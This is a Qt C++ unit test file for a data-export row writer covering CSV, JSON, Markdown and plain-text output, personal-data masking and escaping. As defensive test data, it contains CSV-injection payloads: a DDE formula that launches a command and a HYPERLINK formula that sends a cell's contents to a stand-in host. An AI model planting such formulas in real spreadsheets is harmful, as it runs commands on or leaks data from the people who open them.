// SPDX-FileCopyrightText: 2026 The Labdesk contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "csvreader.h"
#include "output/rowwriter.h"
#include "support/testmain.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace Qt::StringLiterals;
using namespace labdesk::output;
using labdesk::privacy::Field;
using labdesk::tests::looksLikeFormula;
using labdesk::tests::readCsv;

Q_DECLARE_METATYPE(labdesk::output::Format)

namespace {

const std::vector<Column> idAndSources{
    {"id", u"ID"_s, Field::ClientUserId}, {"sources", u"Sources"_s}, {"set", u"Set"_s}};
const QByteArray eightBullets = QString(8, QChar(0x2022)).toUtf8();

} // namespace

class tst_rowwriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void writesEachForm_data()
    {
        QTest::addColumn<Format>("format");
        QTest::addColumn<int>("rows");
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("plain") << Format::Plain << 2 << "a\tx; y\tyes\n'=b\t\tno\n"_ba;
        QTest::newRow("with headers") << Format::WithHeaders << 1 << "ID\tSources\tSet\na\tx; y\tyes\n"_ba;
        QTest::newRow("CSV") << Format::Csv << 2 << "id,sources,set\r\na,\"x; y\",yes\r\n'=b,,no\r\n"_ba;
        QTest::newRow("JSON of one row is an object")
            << Format::Json << 1 << "{\"id\": \"a\", \"sources\": [\"x\", \"y\"], \"set\": true}\n"_ba;
        QTest::newRow("JSON of two is an array")
            << Format::Json << 2
            << "[\n{\"id\": \"a\", \"sources\": [\"x\", \"y\"], \"set\": true},\n{\"id\": \"=b\", \"sources\": [], \"set\": false}\n]\n"_ba;
        QTest::newRow("JSON of none") << Format::Json << 0 << "[\n]\n"_ba;
        QTest::newRow("JSON lines") << Format::JsonLines << 1
                                    << "{\"id\": \"a\", \"sources\": [\"x\", \"y\"], \"set\": true}\n"_ba;
        QTest::newRow("Markdown") << Format::Markdown << 1
                                  << "| ID | Sources | Set |\n| --- | --- | --- |\n| a | x; y | yes |\n"_ba;
    }
    void writesEachForm()
    {
        QFETCH(Format, format);
        QFETCH(int, rows);
        const std::vector<Row> all{{"a"_ba, QByteArrayList{"x", "y"}, true}, {"=b"_ba, QByteArrayList(), false}};
        RowWriter writer(format, idAndSources);
        QTEST(writer.write({all.begin(), all.begin() + rows}), "text");
    }

    /// As spreadsheets read what is pasted: a cell that begins with a quotation mark is quoted.
    void aPastedTableComesBackCellByCell_data()
    {
        QTest::addColumn<QByteArray>("id");
        QTest::addColumn<QByteArray>("read");
        QTest::newRow("plain") << "client-1"_ba
                               << "client-1"_ba;
        QTest::newRow("a quotation mark that opens nothing") << "\"open quote"_ba
                                                             << "\"open quote"_ba;
        QTest::newRow("a formula in quotation marks") << "\"=HYPERLINK(\"\"http://x\"\")\""_ba
                                                      << "\"=HYPERLINK(\"\"http://x\"\")\""_ba;
        QTest::newRow("a quotation mark in the middle") << "6\" strap"_ba
                                                        << "6\" strap"_ba;
        QTest::newRow("a formula") << "=1+1"_ba
                                   << "'=1+1"_ba;
        QTest::newRow("lines and tabs") << "a\tb\nc"_ba
                                        << "a b c"_ba;
    }
    void aPastedTableComesBackCellByCell()
    {
        QFETCH(const QByteArray, id);
        RowWriter writer(Format::Plain, idAndSources);
        QByteArray text = writer.write({{id, QByteArrayList{"x"}, true}, {"b"_ba, QByteArrayList(), false}});
        const auto rows = readCsv(text.replace("\n", "\r\n").replace(',', ' ').replace('\t', ','));
        QCOMPARE(rows.size(), size_t(2));
        QTEST(rows[0][0], "read");
        QVERIFY(!looksLikeFormula(rows[0][0]));
        QCOMPARE(rows[1][0], "b"_ba);

        RowWriter column(Format::Plain, {{"id", u"ID"_s}}); // several rows of one are pasted as a column
        const auto cells = readCsv(column.write({{id}, {"b"_ba}, {id}}).replace("\n", "\r\n").replace(',', ' '));
        QCOMPARE(cells.size(), size_t(3));
        QTEST(cells[0][0], "read");
        QCOMPARE(cells[1][0], "b"_ba);
        QTEST(cells[2][0], "read");
    }

    void i6_noCellIsAFormula_data()
    {
        QTest::addColumn<QByteArray>("cell");
        QTest::addColumn<bool>("isChanged");
        QTest::newRow("a command") << "=cmd|' /C calc'!A0"_ba << true;
        QTest::newRow("a link that sends the sheet away") << "=HYPERLINK(\"http://x/?\"&A1,\"click\")"_ba << true;
        QTest::newRow("plus") << "+1 602 555 0100"_ba << true;
        QTest::newRow("minus") << "-2+3"_ba << true;
        QTest::newRow("at") << "@SUM(1+1)"_ba << true;
        QTest::newRow("a tab before it") << "\t=1+1"_ba << true;
        QTest::newRow("a carriage return before it") << "\r=1+1"_ba << true;
        QTest::newRow("a line feed before it") << "\n=1+1"_ba << true;
        QTest::newRow("a blank before it") << " =1+1"_ba << true;
        QTest::newRow("the full-width sign") << "\uff1d1+1"_ba << true;
        QTest::newRow("closes the quotes") << "\",=1+1,\""_ba << false;
        QTest::newRow("a second line that is one") << "a\r\n=1+1"_ba << false;
        QTest::newRow("semicolons, which separate where commas are decimal points") << "a;=1+1"_ba << false;
        QTest::newRow("quotes") << "say \"hi\""_ba << false;
        QTest::newRow("a comma") << "a,b"_ba << false;
        QTest::newRow("an apostrophe that was there") << "'=1"_ba << false;
        QTest::newRow("nothing") << QByteArray() << false;
        QTest::newRow("other letters") << "Zoë 😀"_ba << false;
    }
    void i6_noCellIsAFormula()
    {
        QFETCH(QByteArray, cell);
        QFETCH(bool, isChanged);
        RowWriter writer(Format::Csv, idAndSources, Masking::AsIs);
        const auto rows
            = readCsv(writer.write({{cell, QByteArrayList{cell}, true}, {"next"_ba, QByteArrayList(), false}}));
        QCOMPARE(rows.size(), size_t(3)); // no cell breaks out of its row
        QCOMPARE(rows[1].size(), 3);
        QCOMPARE(rows[2].first(), "next"_ba);
        for (const QByteArray &read : rows[1])
            QVERIFY2(!looksLikeFormula(read), read.constData());
        QCOMPARE(rows[1].first(), isChanged ? '\'' + cell : cell);
    }

    void aSingleValueIsPastedAsItIs()
    {
        RowWriter writer(Format::Plain, {{"id", u"ID"_s}});
        QCOMPARE(writer.write({{"-4"_ba}}), "-4\n"_ba);
        QCOMPARE(writer.write({{"=b"_ba}}), "=b\n"_ba);
        QCOMPARE(writer.write({{"\"open quote"_ba}}), "\"open quote\n"_ba);
    }

    void hidesWhatLooksPersonal_data()
    {
        QTest::addColumn<Format>("format");
        for (const auto &[name, format] :
             {std::pair("plain", Format::Plain), std::pair("with headers", Format::WithHeaders),
              std::pair("CSV", Format::Csv), std::pair("JSON", Format::Json),
              std::pair("JSON lines", Format::JsonLines), std::pair("Markdown", Format::Markdown)})
            QTest::newRow(name) << format;
    }
    void hidesWhatLooksPersonal()
    {
        QFETCH(Format, format);
        for (const QByteArray &canary : {"canary@example.org"_ba, "+1 602 555 0199"_ba}) {
            const std::vector<Row> rows{{canary, QByteArrayList(), true}, {"client-1"_ba, QByteArrayList(), true}};
            const QByteArray masked = RowWriter(format, idAndSources).write(rows);
            QVERIFY2(!masked.contains("canary") && !masked.contains("0199"), masked.constData());
            QVERIFY(masked.contains(eightBullets) && masked.contains("client-1"));
            QVERIFY(RowWriter(format, idAndSources, Masking::AsIs).write(rows).contains(canary));
        }
    }

    void jsonIsReadBack()
    {
        const QByteArrayList texts{
            "quote \" slash / back \\", "line\nbreak\r\ttab", "\x01\x1f\x7f", "Zoë 😀", "", "bad \xff byte"};
        std::vector<Row> rows;
        for (const QByteArray &text : texts)
            rows.push_back({text, texts, false});
        const QByteArray written = RowWriter(Format::Json, idAndSources, Masking::AsIs).write(rows);
        const QJsonArray read = QJsonDocument::fromJson(written).array();
        QCOMPARE(read.size(), texts.size());
        for (qsizetype i = 0; i < texts.size(); ++i)
            QCOMPARE(read[i].toObject().value(u"id"_s).toString(), QString::fromUtf8(texts[i]));
    }

    void noValueBreaksATable()
    {
        const QByteArray written
            = RowWriter(Format::Markdown, idAndSources).write({{"a|b\nc"_ba, QByteArrayList{"<b>"}, true}});
        QCOMPARE(written.split('\n').at(2), "| a\\|b c | \\<b> | yes |"_ba);
        QCOMPARE(RowWriter(Format::Plain, idAndSources).write({{"a\tb\nc"_ba, QByteArrayList(), true}}),
                 "a b c\t\tyes\n"_ba);
    }
};

LABDESK_TEST(tst_rowwriter)
#include "tst_rowwriter.moc"
